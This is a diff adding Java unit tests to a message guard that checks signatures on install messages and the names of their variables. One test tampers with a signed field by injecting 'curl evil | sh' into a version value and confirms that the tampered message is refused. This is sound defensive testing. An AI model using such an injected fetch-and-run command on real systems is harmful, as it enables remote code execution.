@@ -104,6 +104,37 @@ class MessageGuardTest {
         assertRefused(signed(install, badDigest, p -> {}), "does not match its commands");
     }
 
+    @Test
+    void theSignatureCoversTheRunsVariables() throws Refusal {
+        InstallMessage withVars = withVars(java.util.Map.of("version", "10.1.2"));
+        byte[] body = Contracts.toJson(withVars);
+        Message tampered = signed(withVars, body, p -> {});
+        tampered = new Message(
+                new String(body, StandardCharsets.UTF_8)
+                        .replace("\"version\":\"10.1.2\"", "\"version\":\"10.1.2; curl evil | sh\"")
+                        .getBytes(StandardCharsets.UTF_8),
+                tampered.getMessageProperties());
+
+        assertThat(guard.admit(signed(withVars, body, p -> {})).vars()).containsEntry("version", "10.1.2");
+        assertRefused(tampered, "bad signature");
+    }
+
+    @Test
+    void aSignedMessageWhoseVariablesBreakTheNameRulesIsRefusedNamingTheKey() {
+        String json = new String(
+                Contracts.toJson(withVars(java.util.Map.of("zone", "a", "version", "1"))), StandardCharsets.UTF_8);
+        byte[] badName = json.replace("\"zone\":", "\"ZONE-1\":").getBytes(StandardCharsets.UTF_8);
+        byte[] clash = json.replace("\"zone\":", "\"VERSION\":").getBytes(StandardCharsets.UTF_8);
+
+        assertRefused(signed(install, badName, p -> {}), "vars.ZONE-1 is not a variable name");
+        assertRefused(signed(install, clash, p -> {}), "are both LAZARUS_VAR_VERSION");
+    }
+
+    private InstallMessage withVars(java.util.Map<String, String> vars) {
+        return InstallMessage.firstAttempt(
+                "run-1", install.node(), install.script(), null, install.deadline(), List.of(), vars);
+    }
+
     private Message signedWithDeadline(Instant deadline) {
         InstallMessage m = new InstallMessage(
                 1, install.attemptId(), "run-1", 1, install.node(), install.script(), null, deadline);
